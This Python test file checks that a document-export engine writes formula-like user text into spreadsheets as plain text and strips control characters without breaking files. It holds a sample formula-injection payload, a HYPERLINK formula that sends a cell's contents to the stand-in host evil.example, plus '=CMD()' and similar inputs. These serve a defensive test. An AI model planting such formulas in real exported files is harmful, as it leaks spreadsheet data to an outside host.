"""User text in exported files: formulas stay text, XML-illegal control characters do not break the file."""

from __future__ import annotations

import io
import zipfile

from docx import Document
from openpyxl import load_workbook

from rongmei.engines.docgen import Column, Report, Sheet, sheets_xlsx

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return "".join(archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/"))


def test_formula_like_text_is_written_as_text_in_data_workbooks():
    values = [ATTACK, "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "正常标题", "a-b"]
    data = sheets_xlsx([Sheet("清单", (Column("标题"), Column("数量", "int")), [(v, 1) for v in values],
                              title="=1+2", preamble=(("工作区", "=CMD()"),))])
    assert "<f>" not in _sheet_xml(data)  # no cell holds a formula
    sheet = load_workbook(io.BytesIO(data)).active
    cells = {c.value: c for row in sheet.iter_rows() for c in row if c.value is not None}
    for text in [*values, "=1+2", "=CMD()"]:
        cell = cells[text.replace("\r", "\n")] if text not in cells else cells[text]
        assert cell.data_type == "s"
    assert cells[ATTACK].quotePrefix and not cells["正常标题"].quotePrefix and not cells["a-b"].quotePrefix


def test_control_characters_are_dropped_not_fatal():
    data = sheets_xlsx([Sheet("清\x0b单", ("标题",), [("春季\x0b招聘\x00会",)], title="标\x1f题")])
    sheet = load_workbook(io.BytesIO(data)).active
    assert [r[0] for r in sheet.iter_rows(values_only=True)] == ["标题", "标题", "春季招聘会"]


def test_report_writers_survive_control_characters_and_formulas(tmp_path):
    report = (Report(title="月报\x0b", meta={"单位": "某区\x0c人社局"})
              .heading("一、\x0b总体").paragraph(ATTACK + "\x0b")
              .table(["标题", Column("阅读量", "int")], [[ATTACK, 1], ["春\x0b季", 2]], title="表\x0b"))
    xlsx = report.save_xlsx(tmp_path / "r.xlsx")
    assert "<f>" not in _sheet_xml(xlsx.read_bytes())
    book = load_workbook(xlsx)
    values = [c for ws in book.worksheets for row in ws.iter_rows(values_only=True) for c in row if c]
    assert "月报" in values and "春季" in values and ATTACK in values
    docx = Document(report.save_docx(tmp_path / "r.docx"))
    text = "\n".join(p.text for p in docx.paragraphs) + "".join(c.text for t in docx.tables for r in t.rows
                                                                 for c in r.cells)
    assert "月报" in text and "春季" in text and "\x0b" not in text
